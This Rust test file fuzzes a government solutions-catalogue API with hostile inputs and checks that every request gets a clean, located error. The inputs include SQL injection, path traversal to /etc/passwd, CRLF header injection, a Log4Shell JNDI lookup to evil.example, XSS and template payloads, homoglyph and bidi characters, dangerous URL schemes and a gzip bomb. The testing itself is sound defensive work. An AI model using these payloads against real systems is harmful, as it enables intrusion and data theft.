//! Input that nobody means well: every parameter and every member of every
//! body, as the document lists them, with values that break other programs.

use std::io::Write;

use gouvtech_catalogue::auth::Role;
use gouvtech_catalogue::db::Id;

use crate::cases;
use crate::support::build::{Party, sheet};
use crate::support::{App, Response, Value, json};

cases![
    no_parameter_breaks_anything,
    no_member_of_a_body_breaks_anything,
    no_address_breaks_anything,
    a_body_that_is_no_body_is_refused,
    text_that_deceives_is_refused_with_its_place,
    twins_of_unicode_are_one,
    addresses_that_run_or_hide_are_refused,
    operators_of_a_search_are_text,
    a_forged_cursor_is_refused,
];

/// Text for a parameter or a path. None of it is what any of them expects.
const TEXTS: &[&str] = &[
    "",
    " ",
    "'",
    "' OR '1'='1",
    "\"; DROP TABLE solutions; --",
    "1); DELETE FROM changes; --",
    "%",
    "_",
    "\\",
    "$1",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "\u{0}",
    "\r\nX-Injected: yes",
    "\u{202e}tpircs",
    "\u{200b}",
    "e\u{301}",
    "𝕒𝕕𝕞𝕚𝕟",
    "аdmin",
    "-1",
    "0",
    "9223372036854775808",
    "-9223372036854775809",
    "1e400",
    "NaN",
    "1.0",
    "0x10",
    "true",
    "null",
    "[]",
    "{}",
    "2026-02-30",
    "0000-00-00",
    "+292277026596-12-04",
    "2026-01-01T00:00:00+99:00",
    "00000000-0000-0000-0000-000000000000",
    "not-a-uuid",
    "{01890a5d-ac96-774b-bcce-b302099a8057}",
    "password",
    "-password",
    "javascript:alert(1)",
    "=HYPERLINK(\"https://evil.example\")",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
];

/// What a problem must be; anything but a fault of ours.
fn is_sound(answer: &Response) -> Result<(), String> {
    let status = answer.status;
    if status >= 500 {
        return Err(format!("{status}: {}", String::from_utf8_lossy(&answer.bytes)));
    }
    if status < 400 {
        return Ok(());
    }
    let kind = answer.headers.get("content-type").map(String::as_str);
    if kind != Some("application/problem+json") {
        return Err(format!("{status} as {kind:?}"));
    }
    if answer.headers.contains_key("x-injected") {
        return Err("a header was injected".to_owned());
    }
    let problem = answer.json();
    let has_place = problem["errors"].as_array().is_some_and(|errors| {
        !errors.is_empty() && errors.iter().all(|fault| fault["pointer"].is_string() || fault["parameter"].is_string())
    });
    match status {
        400 | 422 if !has_place => Err(format!("{status} names no place: {problem}")),
        _ => Ok(()),
    }
}

struct Operation {
    id: String,
    method: String,
    path: String,
    queries: Vec<String>,
    headers: Vec<String>,
    body: Option<(String, Value)>,
    role: Option<Role>,
}

/// Every operation of the document, with the first role that it lets in.
fn operations(app: &App) -> Vec<Operation> {
    let document = app.inner.contract.document();
    let mut all = Vec::new();
    for (path, item) in document["paths"].as_object().expect("paths") {
        for (method, operation) in item.as_object().expect("methods") {
            let named = |place: &str| {
                let parameters = operation["parameters"].as_array().into_iter().flatten();
                let named = parameters.filter(|one| one["in"] == place);
                named.map(|one| one["name"].as_str().expect("a name").to_owned()).collect()
            };
            // Forms have rules, and errors, of another standard.
            let content = operation["requestBody"]["content"].as_object().and_then(|content| content.iter().next());
            let content = content.filter(|(kind, _)| kind.contains("json"));
            let body = content.and_then(|(kind, media)| {
                let reference = media["schema"]["$ref"].as_str()?.trim_start_matches('#');
                Some((kind.clone(), document.pointer(reference).expect("a schema")["example"].clone()))
            });
            let scopes = operation["security"].as_array().into_iter().flatten().filter_map(|one| one.get("bearer"));
            let mut words = scopes.filter_map(|scopes| scopes.as_array()?.first()?.as_str());
            let role = words.find_map(|word| Role::from_code(word.split(':').next().unwrap_or_default()));
            all.push(Operation {
                id: operation["operationId"].as_str().expect("an id").to_owned(),
                method: method.to_uppercase(),
                path: path.clone(),
                queries: named("query"),
                headers: named("header"),
                body,
                role,
            });
        }
    }
    assert!(all.len() > 100, "the document lists operations");
    all
}

/// Somebody of each role, and a published solution and its draft revision to aim at.
struct Stage {
    vendor: Party,
    buyer: Party,
    auditor: Party,
    operator: String,
    solution: String,
}

fn stage(app: &App) -> Stage {
    let vendor = app.vendor(1);
    let solution = app.published(&vendor, "Cible").id();
    Stage { solution, buyer: app.buyer(1), auditor: app.audit_body(1), operator: app.operator(), vendor }
}

impl Stage {
    fn token(&self, role: Role) -> &str {
        match role {
            Role::Vendor => &self.vendor.token,
            Role::Buyer => &self.buyer.token,
            Role::Auditor => &self.auditor.token,
            Role::Operator => &self.operator,
        }
    }

    /// A path that leads somewhere where it can.
    fn at(&self, operation: &Operation) -> String {
        let id = if operation.path.starts_with("/api/v1/solutions/") {
            self.solution.clone()
        } else {
            Id::new().to_string()
        };
        let path = operation.path.replace("{id}", &id).replace("{n}", "1").replace("{m}", "1");
        let path = path.replace("{criterion}", "SEC-01").replace("{number}", "GT-1999-99999");
        path.replace("/problems/{code}", "/problems/not-found").replace("{code}", "SEC-01")
    }

    fn call(
        &self,
        app: &App,
        operation: &Operation,
        path: &str,
        header: Option<(&str, &str)>,
        body: Option<&[u8]>,
    ) -> Response {
        let mut request = app.request(&operation.method, path).unchecked();
        if let Some(role) = operation.role {
            request = request.by(self.token(role));
        }
        // So that what changes does not change what comes next, no write names the current version.
        if operation.method != "GET" && header.is_none_or(|(name, _)| name != "If-Match") {
            request = request.header("if-match", "\"v999\"");
        }
        if let Some((name, value)) = header {
            request = request.header(name, value);
        }
        if let (Some((kind, example)), body) = (&operation.body, body) {
            let example = example.to_string();
            request = request.bytes(kind, body.unwrap_or(example.as_bytes()));
        }
        request.send()
    }
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

fn no_parameter_breaks_anything(app: &App) {
    let stage = stage(app);
    let mut wrong = Vec::new();
    let mut sent = 0;
    for operation in operations(app) {
        let path = stage.at(&operation);
        let long = "a".repeat(7000);
        for name in &operation.queries {
            for text in TEXTS.iter().chain([&long.as_str()]) {
                let answer = stage.call(app, &operation, &format!("{path}?{name}={}", encoded(text)), None, None);
                sent += 1;
                if let Err(why) = is_sound(&answer) {
                    wrong.push(format!("{} ?{name}={text:?}: {why}", operation.id));
                }
            }
        }
        for name in &operation.headers {
            // What no header can carry the client itself refuses to send.
            for text in TEXTS.iter().filter(|text| text.bytes().all(|byte| (b' '..=b'~').contains(&byte))) {
                let answer = stage.call(app, &operation, &path, Some((name, text)), None);
                sent += 1;
                if let Err(why) = is_sound(&answer) {
                    wrong.push(format!("{} {name}: {text:?}: {why}", operation.id));
                }
            }
        }
    }
    assert!(sent > 5000, "only {sent} requests");
    assert!(wrong.is_empty(), "{} of {sent}\n{}", wrong.len(), wrong.join("\n"));
}

fn no_member_of_a_body_breaks_anything(app: &App) {
    let stage = stage(app);
    let mut wrong = Vec::new();
    let mut sent = 0;
    for operation in operations(app) {
        let Some((_, example)) = &operation.body else { continue };
        let path = stage.at(&operation);
        for place in places(example) {
            // As they stand in JSON: some are values that no other JSON reader takes.
            for text in HOSTILE_JSON {
                let body = with(example, &place, text);
                let answer = stage.call(app, &operation, &path, None, Some(&body));
                sent += 1;
                if let Err(why) = is_sound(&answer) {
                    wrong.push(format!("{} {place} = {text}: {why}", operation.id));
                }
            }
        }
    }
    assert!(sent > 1000, "only {sent} requests");
    assert!(wrong.is_empty(), "{} of {sent}\n{}", wrong.len(), wrong.join("\n"));
}

const HOSTILE_JSON: &[&str] = &[
    "null",
    "true",
    "-1",
    "1e400",
    "9223372036854775808",
    "0.1",
    "\"\"",
    "\"\\u0000\"",
    "\"\\ud800\"",
    "\"\\u202e\\u200b\"",
    "\"'; DROP TABLE solutions; --\"",
    "\"javascript:alert(1)\"",
    "\"2026-02-30\"",
    "[]",
    "[[[]]]",
    "{}",
    "{\"a\":1,\"a\":2}",
];

/// JSON pointers to every member of an object, at any depth.
fn places(value: &Value) -> Vec<String> {
    let inner: Vec<(String, &Value)> = match value {
        Value::Object(members) => members.iter().map(|(name, member)| (name.clone(), member)).collect(),
        Value::Array(items) => items.iter().enumerate().map(|(index, item)| (index.to_string(), item)).collect(),
        _ => Vec::new(),
    };
    inner
        .into_iter()
        .flat_map(|(name, member)| {
            let deeper = places(member);
            std::iter::once(format!("/{name}")).chain(deeper.into_iter().map(move |place| format!("/{name}{place}")))
        })
        .collect()
}

/// The example with raw text at one place.
fn with(example: &Value, place: &str, raw: &str) -> Vec<u8> {
    let mark = "\u{1}mark\u{1}";
    let mut changed = example.clone();
    *changed.pointer_mut(place).expect("a place") = json!(mark);
    changed.to_string().replace(&json!(mark).to_string(), raw).into_bytes()
}

fn no_address_breaks_anything(app: &App) {
    let stage = stage(app);
    let mut wrong = Vec::new();
    for operation in operations(app).iter().filter(|operation| operation.path.contains('{')) {
        for text in TEXTS.iter().filter(|text| !text.is_empty()) {
            let mut path = operation.path.clone();
            while let (Some(open), Some(close)) = (path.find('{'), path.find('}')) {
                path.replace_range(open..=close, &encoded(text));
            }
            let answer = stage.call(app, operation, &path, None, None);
            if let Err(why) = is_sound(&answer) {
                wrong.push(format!("{} {path}: {why}", operation.id));
            }
            // Version 0 or criterion `%`: nothing of that name, unless the slot takes any word.
            if operation.method != "GET" && !(400..500).contains(&answer.status) {
                wrong.push(format!("{} {path}: {}", operation.id, answer.status));
            }
        }
    }
    assert!(wrong.is_empty(), "{}\n{}", wrong.len(), wrong.join("\n"));
}

fn a_body_that_is_no_body_is_refused(app: &App) {
    let vendor = app.vendor(1);
    let post = |body: &[u8]| app.post("/api/v1/solutions").by(&vendor.token).bytes("application/json", body);
    let bodies: &[&[u8]] = &[
        b"",
        b" ",
        b"{",
        b"\xff\xfe{}",
        b"{\"name\":\"\xff\"}",
        b"{\"name\":\"\\ud800\"}",
        b"{\"name\":1e400}",
        b"\0",
        b"{\"name\":\"a\"}{\"name\":\"b\"}",
        b"{'name':'a'}",
        b"{\"name\":\"a\",}",
        b"NaN",
        b"name=a",
        b"<xml/>",
        b"{\"name\":\"a\",\"name\":\"b\"}",
        b"{\"name\":\"a\",\"n\\u0061me\":\"b\"}",
        b"[{\"name\":\"a\"}]",
        b"\"text\"",
        b"null",
    ];
    for body in bodies {
        let answer = post(body).expect(400);
        is_sound(&answer).unwrap_or_else(|why| panic!("{}: {why}", String::from_utf8_lossy(body)));
    }
    // A coding is not undone: a bomb stays as small as it came.
    let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    bomb.write_all(&vec![b' '; 50_000_000]).expect("compressed");
    let answer = post(&bomb.finish().expect("compressed")).header("content-encoding", "gzip").expect(415);
    assert_eq!(answer.text("code"), "unsupported_media_type");
    post(b"{\"name\":\"a\"}").header("content-encoding", "identity").expect(201);
    // Ten thousand parameters, and 64 KB of one.
    let many: String = (0..2000).map(|n| format!("p{n}=1&")).collect();
    app.get(&format!("/api/v1/solutions?{}", &many[..8000])).expect(400);
    app.get(&format!("/api/v1/solutions?{}", "tag=a&".repeat(10_000))).expect(414);
    app.get(&format!("/api/v1/solutions?{}", "tag=a&".repeat(1300))).expect(400);
}

fn text_that_deceives_is_refused_with_its_place(app: &App) {
    let vendor = app.vendor(1);
    for (character, name) in [
        ('\u{202e}', "right-to-left override"),
        ('\u{2066}', "isolate"),
        ('\u{200b}', "zero-width space"),
        ('\u{feff}', "byte order mark"),
        ('\u{1b}', "escape"),
        ('\u{9b}', "C1"),
        ('\u{fffe}', "noncharacter"),
        ('\u{e0041}', "tag"),
    ] {
        let body = json!({"name": format!("Bon{character}jour"), "tags": ["a", format!("b{character}")]});
        let refused = app.post("/api/v1/solutions").by(&vendor.token).json(&body).expect(422);
        refused.has_fault("/name deceptive_character").has_fault("/tags/1 deceptive_character");
        assert!(!name.is_empty());
    }
    let draft = app.draft(&vendor, "Sobre");
    let path = format!("/api/v1/solutions/{}", draft.id());
    let patch = app.patch(&path).by(&vendor.token).on(&draft).json(&json!({"summary": "a\u{202e}b"})).expect(422);
    patch.has_fault("/summary deceptive_character");
    // What people write stays: lines, narrow spaces, emoji of several characters.
    let honest = "Première ligne\nseconde : 10\u{202f}%\u{a0}; 👩\u{200d}💻";
    let kept = app.patch(&path).by(&vendor.token).on(&draft).json(&json!({"description": honest})).expect(200);
    assert_eq!(kept.text("description"), honest);
}

fn twins_of_unicode_are_one(app: &App) {
    let vendor = app.vendor(1);
    let composed = app.post("/api/v1/solutions").by(&vendor.token).json(&sheet("Évaluée")).expect(201);
    let twin = app.post("/api/v1/solutions").by(&vendor.token).json(&sheet("E\u{301}value\u{301}e")).expect(201);
    assert_eq!(twin.text("name"), composed.text("name"), "kept in NFC");
    let found =
        app.get(&format!("/api/v1/solutions?status=draft&q={}", encoded("e\u{301}value\u{301}e"))).by(&vendor.token);
    assert_eq!(found.expect(200).json()["total"], 2);
}

fn addresses_that_run_or_hide_are_refused(app: &App) {
    let vendor = app.vendor(1);
    for url in [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "ftp://example.org/",
        "//example.org/",
        "https://user:secret@example.org/",
        "https://example.org@evil.example/",
        "https://",
        "https://exa mple.org/",
        "http://[::1",
    ] {
        let mut body = sheet("Adresse");
        body["website"] = json!(url);
        let answer = app.post("/api/v1/solutions").by(&vendor.token).json(&body).expect(422);
        assert!(answer.faults().iter().any(|fault| fault.starts_with("/website ")), "{url}: {:?}", answer.faults());
    }
}

fn operators_of_a_search_are_text(app: &App) {
    let vendor = app.vendor(1);
    app.published(&vendor, "Cent pour cent");
    let total = |q: &str| app.get(&format!("/api/v1/solutions?q={}", encoded(q))).expect(200).json()["total"].clone();
    assert_eq!(total("cent"), 1);
    for q in ["c%t", "c_nt", "cen*", "cent OR 1=1", "^cent$", "ce.t", "cent'--", "\\"] {
        // A wildcard finds nothing that the letters alone would not.
        let letters: String = q.chars().map(|c| if c.is_alphanumeric() { c } else { ' ' }).collect();
        assert_eq!(total(q), total(letters.trim()), "{q}");
    }
}

fn a_forged_cursor_is_refused(app: &App) {
    let vendor = app.vendor(1);
    for n in 0..3 {
        app.published(&vendor, &format!("Page {n}"));
    }
    let first = app.get("/api/v1/solutions?limit=1").expect(200);
    let cursor = first.text("next");
    let at = |cursor: &str| app.get(&format!("/api/v1/solutions?limit=1&cursor={}", encoded(cursor)));
    at(&cursor).expect(200);
    for position in 0..cursor.len() {
        let mut bytes = cursor.clone().into_bytes();
        bytes[position] = if bytes[position] == b'A' { b'B' } else { b'A' };
        let forged = String::from_utf8(bytes).expect("ASCII");
        at(&forged).expect(400).has_fault("cursor invalid_cursor");
    }
    for forged in [&cursor[1..], &cursor[..cursor.len() - 1], &format!("{cursor}A"), &format!("{cursor}="), "AAAA", ""]
    {
        at(forged).expect(400).has_fault("cursor invalid_cursor");
    }
}
